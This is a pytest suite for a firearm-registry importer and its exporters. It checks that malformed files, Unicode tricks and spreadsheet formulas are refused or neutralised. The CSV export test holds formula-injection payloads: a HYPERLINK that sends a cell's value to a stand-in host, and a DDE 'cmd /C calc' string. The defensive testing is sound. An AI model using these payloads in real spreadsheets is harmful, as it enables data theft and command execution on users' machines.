"""Registry files as registries, spreadsheets and copy-paste really produce them (issue 12).

Every file in tests/data/registry/ is listed here with the exact report it must give (or as valid),
the store is unchanged after every refusal, the CLI never shows a traceback, and a fuzz feeds random
bytes and random JSON to the importer. Reports: CSV cells a spreadsheet would evaluate are
neutralised, the .xlsx export imports back into a fresh store as the same items, and the PDF
report's text holds every code and the journal checkpoint.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from _paths import REPO
from _queue_fakes import dump_db, sample_rows, write_csv
from markstation.cli import main
from markstation.errors import BatchError
from markstation.queue import batch as batch_module
from markstation.queue.batch import import_batch, read_batch, validation_report
from markstation.queue.models import Actor
from markstation.queue.sqlite import SqliteStore
from markstation.queue.textpolicy import check_field, describe, spreadsheet_safe

DATA = REPO / "tests" / "data" / "registry"
EXAMPLES = REPO / "examples"
ACTOR = Actor("J. Quispe", "station-1")
NEXT_YEAR = date.today().year + 1
WINDOW = "(layout 'secondary-mark', code.year_min / code.year_max)"
SAVE_UTF8 = "save the file as UTF-8 (Excel: 'CSV UTF-8 (comma delimited)')"
NOT_TEXT_XLSX = "(format the column as Text and type it again)"
ZEROS = '(a number loses leading zeros: write it in quotes, e.g. "000123")'
SAME = "one firearm must not get two codes"

#: file -> the report lines after the file name (``:line:column: message`` or ``:Sheet!B7: …``)
EXPECTED: dict[str, list[str]] = {
    "control-nul-in-owner.csv": [":3:46: owner: control character U+0000 NULL is not allowed"],
    "control-tab-in-serial.csv": [
        ":3:24: serial: control character U+0009 CHARACTER TABULATION is not allowed"
    ],
    "control-escape-in-model.csv": [":3:34: model: control character U+001B ESCAPE is not allowed"],
    "control-backspace-in-make.csv": [
        ":3:31: make: control character U+0008 BACKSPACE is not allowed"
    ],
    "control-delete-in-caliber.csv": [
        ":3:39: caliber: control character U+007F DELETE is not allowed"
    ],
    "control-c1-next-line-in-owner.csv": [
        ":3:46: owner: control character U+0085 NEXT LINE is not allowed"
    ],
    "line-separator-in-owner.csv": [
        ":3:46: owner: U+2028 LINE SEPARATOR is not allowed (a field is one line)"
    ],
    "bidi-override-in-serial.csv": [
        ":3:24: serial: bidirectional control U+202E RIGHT-TO-LEFT OVERRIDE is not allowed "
        "(it changes the order text is shown in)"
    ],
    "zero-width-in-model.csv": [
        ":3:34: model: invisible character U+200B ZERO WIDTH SPACE is not allowed"
    ],
    "lookalike-cyrillic-in-code.csv": [
        ":3:1: mark_code: 'А' U+0410 CYRILLIC CAPITAL LETTER A is not 'A'"
    ],
    "lookalike-greek-in-code.csv": [
        ":3:1: mark_code: 'Ο' U+039F GREEK CAPITAL LETTER OMICRON is not 'O'"
    ],
    "lookalike-fullwidth-digit-in-code.csv": [
        ":3:1: mark_code: '２' U+FF12 FULLWIDTH DIGIT TWO is not '2'"
    ],
    "lookalike-unicode-dash-in-code.csv": [":3:1: mark_code: '‐' U+2010 HYPHEN is not '-'"],
    "code-leading-space.csv": [
        ":3:1: mark_code: ' ' U+0020 SPACE at the start (surrounding whitespace is not trimmed: "
        "fix the file)"
    ],
    "code-trailing-no-break-space.csv": [
        ":3:1: mark_code: U+00A0 NO-BREAK SPACE at the end (surrounding whitespace is not "
        "trimmed: fix the file)"
    ],
    "code-year-0000.csv": [f":3:1: mark_code: year 0000 is outside 1900…{NEXT_YEAR} {WINDOW}"],
    "code-year-9999.csv": [f":3:1: mark_code: year 9999 is outside 1900…{NEXT_YEAR} {WINDOW}"],
    "code-too-long.csv": [":3:1: mark_code: 73 characters, the limit is 64"],
    "serial-too-long.csv": [":3:24: serial: 65 characters, the limit is 64"],
    "same-firearm-unicode-hyphen.csv": [
        f":3:24: firearm Glock serial 'AB‐123' already on line 2: {SAME}"
    ],
    "same-firearm-fullwidth.csv": [
        f":3:24: firearm Glock serial 'ＡＢ１２３' already on line 2: {SAME}"
    ],
    "same-firearm-case-and-spaces.csv": [
        f":3:24: firearm SMITH & WESSON serial 'ab 123' already on line 2: {SAME}",
        f":4:24: firearm smith & wesson serial 'a.b.1.2.3' already on line 2: {SAME}",
    ],
    "same-firearm-zero-width-space.csv": [
        ":3:24: serial: invisible character U+200B ZERO WIDTH SPACE is not allowed",
        f":3:24: firearm Glock serial 'AB\\u200b123' already on line 2: {SAME}",
    ],
    "utf16-no-bom.csv": [f":1:1: looks like UTF-16 text without a byte-order mark: {SAVE_UTF8}"],
    "json-lone-surrogate.json": [
        ":1:38: serial: lone surrogate U+D800 (not a character: the file is damaged)"
    ],
    "json-deep-nesting.json": [":1:97: JSON nested deeper than 32 levels (refused)"],
    "json-5000-digit-integer.json": [
        ":1:48: a JSON number of 5000 characters (limit 32); codes and serials are strings"
    ],
    "json-serial-is-number.json": [
        f":5:3: 'serial' must be a string, got the number 601 {ZEROS}",
        f":11:3: 'model' must be a string, got the number 92 {ZEROS}",
    ],
    "json-serial-is-true.json": [":1:38: 'serial' must be a string, got true"],
    "json-nan.json": [":1:48: not valid JSON: NaN is not a number"],
    "json-duplicate-key-nested.json": [":1:56: key 'n' appears twice in an object inside 'permit'"],
    "json-duplicate-key-spelling.json": [":1:56: key 'Serial' appears twice in this object"],
    "json-control-in-key.json": [
        ":1:56: column name 'per\\u001bmit': control character U+001B ESCAPE is not allowed"
    ],
    "xlsx-serial-is-number.xlsx": [
        f":Registro!B3: 'serial' must be text, got a number (702) {NOT_TEXT_XLSX}"
    ],
    "xlsx-serial-is-date.xlsx": [
        ":Registro!B3: 'serial' must be text, got a date or time (2026-07-02T00:00:00) "
        + NOT_TEXT_XLSX
    ],
    "xlsx-formula.xlsx": [
        ':Registro!F3: a formula (=A2&"x") is not allowed: a registry file must carry values '
        "(copy the cells, paste as values)"
    ],
    "xlsx-lookalike-in-code.xlsx": [
        ":Registro!A3: mark_code: 'О' U+041E CYRILLIC CAPITAL LETTER O is not 'O'"
    ],
    # the registry is on the second sheet: without --sheet the first is read
    "xlsx-second-sheet.xlsx": [
        ":Notas!A1: required column 'mark_code' is missing",
        ":Notas!A1: required column 'serial' is missing",
    ],
}
#: valid files -> how many items they hold
VALID = {
    "valid-utf16-bom.csv": 2,
    "valid-semicolon-spanish-excel.csv": 1,
    "valid-formula-like-text.csv": 3,
    "valid.xlsx": 2,
}


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """A store that already holds a batch, so "unchanged" is a real comparison."""
    path = tmp_path / "m.db"
    with SqliteStore(path, actor=ACTOR) as store:
        import_batch(EXAMPLES / "registry-sample.json", store, actor=ACTOR)
    return path


def test_every_data_file_is_listed() -> None:
    on_disk = {p.name for p in DATA.iterdir() if not p.name.startswith("_")}
    assert on_disk == set(EXPECTED) | set(VALID)


def _lines(path: Path, report: str) -> list[str]:
    first, *rest = report.splitlines()
    assert first.startswith(f"{path}: ") and first.endswith("nothing imported"), first
    return [line.removeprefix(str(path)) for line in rest]


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_refused_with_exact_report_and_store_unchanged(db: Path, name: str) -> None:
    path = DATA / name
    before = dump_db(db)
    with SqliteStore(db, actor=ACTOR) as store, pytest.raises(BatchError) as err:
        import_batch(path, store, actor=ACTOR)
    assert _lines(path, str(err.value)) == EXPECTED[name]
    assert dump_db(db) == before


@pytest.mark.parametrize("name", sorted(VALID))
def test_valid_files_import(tmp_path: Path, name: str) -> None:
    with SqliteStore(tmp_path / "m.db", actor=ACTOR) as store:
        _, valid = import_batch(DATA / name, store, actor=ACTOR)
        assert len(valid.items) == VALID[name]
        items = store.items()
    if name == "valid-utf16-bom.csv":
        assert items[1].owner == "Armería Ñandú"
    if name == "valid-semicolon-spanish-excel.csv":
        assert items[0].owner == "Armería Ñandú S.A.C."
    if name == "valid.xlsx":
        assert items[1].serial == "00702" and items[1].owner == "Armería Ñandú"


def test_sheet_by_name(tmp_path: Path) -> None:
    with SqliteStore(tmp_path / "m.db", actor=ACTOR) as store:
        _, valid = import_batch(
            DATA / "xlsx-second-sheet.xlsx", store, actor=ACTOR, sheet="Registro"
        )
        assert [i.code for i in valid.items] == ["PE-SUCAMEC-2026-000701"]
        with pytest.raises(
            BatchError, match=r"no sheet 'Nope' \(the workbook has 'Notas', 'Registro'\)"
        ):
            import_batch(DATA / "xlsx-second-sheet.xlsx", store, actor=ACTOR, sheet="Nope")


def test_a_1_mib_serial(tmp_path: Path) -> None:
    path = tmp_path / "big.json"
    path.write_text(json.dumps([{"mark_code": "SV-PNC-2026-000601", "serial": "S" * 2**20}]))
    with SqliteStore(tmp_path / "m.db", actor=ACTOR) as store, pytest.raises(BatchError) as err:
        import_batch(path, store, actor=ACTOR)
    assert _lines(path, str(err.value)) == [":1:38: serial: 1048576 characters, the limit is 64"]


def test_file_size_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(batch_module, "MAX_FILE_BYTES", 1024 * 1024)
    path = write_csv(tmp_path / "b.csv", sample_rows(2))
    with path.open("a") as fh:
        fh.write("x" * (1024 * 1024))
    with pytest.raises(BatchError, match=r"b.csv: \d+ bytes, larger than the 1 MiB limit"):
        read_batch(path)


def test_same_firearm_as_in_store_with_lookalike_serial(db: Path, tmp_path: Path) -> None:
    with SqliteStore(db, actor=ACTOR) as store:
        old = store.items()[0]
    # fullwidth letters and a Unicode hyphen: still the same stamped serial
    serial = "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else "\u2010" for c in old.serial)
    rows = [{"mark_code": "SV-PNC-2026-009999", "serial": serial, "make": old.make.upper()}]
    path = write_csv(tmp_path / "again.csv", rows)
    before = dump_db(db)
    with SqliteStore(db, actor=ACTOR) as store, pytest.raises(BatchError) as err:
        import_batch(path, store, actor=ACTOR)
    assert f"already has code '{old.code}' in this store" in str(err.value)
    assert dump_db(db) == before


def test_policy_rules() -> None:
    assert describe("\u0410") == "'А' U+0410 CYRILLIC CAPITAL LETTER A"
    assert describe("\x1b") == "U+001B ESCAPE"
    decomposed = "N\u0303andu"  # N + combining tilde: stored composed (NFC)
    assert check_field("owner", decomposed).value == "\u00d1andu"
    assert check_field("owner", "  Seguridad Andina  ").value == "Seguridad Andina"
    assert check_field("serial", "\ufeffAB1").problem == (
        "serial: invisible character U+FEFF ZERO WIDTH NO-BREAK SPACE is not allowed"
    )
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_safe("PE-1") == "PE-1"


# --- batch validate ---------------------------------------------------------------------------------


def _cli(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            main(list(args))
        except SystemExit as exc:
            code = int(exc.code or 0)
        else:  # pragma: no cover - main always exits
            code = 0
    return code, out.getvalue(), err.getvalue()


def test_validate_text_and_json(tmp_path: Path) -> None:
    path = DATA / "lookalike-cyrillic-in-code.csv"
    code, out, err = _cli("batch", "validate", str(path))
    assert code == 1 and out == ""
    assert err.splitlines()[1] == f"{path}{EXPECTED[path.name][0]}"
    code, out, _ = _cli("batch", "validate", str(path), "--json")
    doc = json.loads(out)
    assert code == 1 and doc["ok"] is False and doc["items"] == 1
    assert doc["problems"] == [
        {
            "where": f"{path}:3:1",
            "line": 3,
            "column": 1,
            "message": "mark_code: 'А' U+0410 CYRILLIC CAPITAL LETTER A is not 'A'",
        }
    ]
    code, out, _ = _cli("batch", "validate", str(DATA / "xlsx-formula.xlsx"), "--json")
    assert code == 1 and json.loads(out)["problems"][0]["cell"] == "F3"
    code, out, _ = _cli(
        "batch", "validate", str(DATA / "xlsx-second-sheet.xlsx"), "--sheet", "Registro"
    )
    assert code == 0 and out.strip().endswith("1 item, no problems")
    code, out, err = _cli("batch", "validate", str(tmp_path / "missing.csv"), "--json")
    assert code == 1 and "cannot read the batch file" in json.loads(out)["problems"][0]["message"]


def test_validate_touches_no_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MARKSTATION_DB", str(tmp_path / "never.db"))
    code, _, _ = _cli("batch", "validate", str(EXAMPLES / "registry-sample.csv"))
    assert code == 0
    assert not (tmp_path / "never.db").exists()
    doc, _ = validation_report(EXAMPLES / "registry-sample.csv")
    assert doc["ok"] and doc["items"] == 12


# --- the fuzz -----------------------------------------------------------------------------------------

_json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text(st.characters(exclude_categories=()), max_size=12),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)
_items = st.lists(
    st.fixed_dictionaries(
        {"mark_code": _json_values, "serial": _json_values},
        optional={"make": _json_values, "layout": _json_values, "x": _json_values},
    ),
    max_size=4,
)


def _fuzz_one(tmp: Path, name: str, data: bytes) -> None:
    db = tmp / "m.db"
    if not db.exists():
        with SqliteStore(db, actor=ACTOR) as store:
            import_batch(EXAMPLES / "registry-sample.json", store, actor=ACTOR)
    path = tmp / name
    path.write_bytes(data)
    before = dump_db(db)
    code, out, err = _cli("batch", "import", str(path), "--db", str(db))
    assert "Traceback" not in err
    if code == 0:  # random input that happens to be a valid batch
        assert "imported" in out
        return
    assert code == 1, err
    lines = err.splitlines()
    assert lines and lines[0].startswith("error: ") and all(line.strip() for line in lines)
    assert dump_db(db) == before


@pytest.mark.slow  # hypothesis over whole files or jobs: the full run
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.binary(max_size=400), suffix=st.sampled_from([".csv", ".json", ".xlsx", ".txt"]))
def test_fuzz_random_bytes(
    tmp_path_factory: pytest.TempPathFactory, data: bytes, suffix: str
) -> None:
    _fuzz_one(tmp_path_factory.mktemp("fz"), "random" + suffix, data)


@pytest.mark.slow  # hypothesis over whole files or jobs: the full run
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(doc=_json_values | _items, ascii_only=st.booleans())
def test_fuzz_random_json(
    tmp_path_factory: pytest.TempPathFactory, doc: object, ascii_only: bool
) -> None:
    text = json.dumps(doc, ensure_ascii=ascii_only)
    data = text.encode("utf-8", "surrogatepass")
    _fuzz_one(tmp_path_factory.mktemp("fz"), "random.json", data)


# --- reports --------------------------------------------------------------------------------------------


def _marked_store(tmp_path: Path) -> Path:
    """A store with the formula-like batch and the sample, two items marked by the fake runner."""
    db = tmp_path / "r.db"
    with SqliteStore(db, actor=ACTOR) as store:
        import_batch(DATA / "valid-formula-like-text.csv", store, actor=ACTOR)
        import_batch(EXAMPLES / "registry-sample.csv", store, actor=ACTOR)
    return db


def test_csv_export_has_no_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> None:
    from markstation.queue.export import export_report

    db = _marked_store(tmp_path)
    with SqliteStore(db, actor=ACTOR) as store:
        export_report(store, tmp_path / "r.csv", fmt="csv", actor=ACTOR)
    text = (tmp_path / "r.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(line for line in text.splitlines() if not line.startswith("#")))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://x.example/?"&A1,"click")' in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'-CZ0503" in cells and "'@SUM(1+1)" in cells


def test_xlsx_round_trip(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from markstation.queue.xlsx import export_xlsx

    db = _marked_store(tmp_path)
    with SqliteStore(db, actor=ACTOR) as store:
        export_xlsx(store, tmp_path / "r.xlsx", actor=ACTOR)
        original = store.items()
    wb = load_workbook(tmp_path / "r.xlsx", read_only=True)
    assert wb.sheetnames == ["items", "report", "journal"]
    formulas = [c.coordinate for row in wb["items"].iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    header = [c.value for c in next(wb["report"].iter_rows())]
    first = [c.value for c in list(wb["report"].iter_rows())[1]]
    assert isinstance(first[header.index("batch")], int)
    assert isinstance(first[header.index("attempts")], int)
    wb.close()
    with SqliteStore(tmp_path / "fresh.db", actor=ACTOR) as fresh:
        import_batch(tmp_path / "r.xlsx", fresh, actor=ACTOR)
        again = fresh.items()

    def same(items: list) -> list:  # type: ignore[type-arg]
        return [
            (i.code, i.serial, i.make, i.model, i.caliber, i.owner, i.layout, dict(i.extra))
            for i in items
        ]

    assert same(again) == same(original)


@pytest.mark.parametrize("lang", ["en", "es"])
def test_pdf_report_text(tmp_path: Path, lang: str) -> None:
    from pypdf import PdfReader

    from markstation.queue.journal import latest_checkpoint_text
    from markstation.queue.keys import generate
    from markstation.queue.report_pdf import export_pdf

    db = _marked_store(tmp_path)
    key = generate("markstation/test-station")
    with SqliteStore(db, actor=ACTOR) as store:
        export_pdf(store, tmp_path / "r.pdf", actor=ACTOR, lang=lang, thumbnails=False, key=key)
        sealed = latest_checkpoint_text(store)
        codes = [i.code for i in store.items()]
    assert sealed is not None and "\u2014 markstation/test-station " in sealed  # signed note
    reader = PdfReader(tmp_path / "r.pdf")
    text = "\n".join(page.extract_text() for page in reader.pages)
    flat = "".join(text.split())
    for code in codes:
        assert code in text
    assert "".join(sealed.split()) in flat
    pages = len(reader.pages)
    word = "page" if lang == "en" else "página"
    of = "of" if lang == "en" else "de"
    assert f"{word} {pages} {of} {pages}" in text
    title = "Marking campaign report" if lang == "en" else "Informe de la campaña de marcado"
    assert title in text
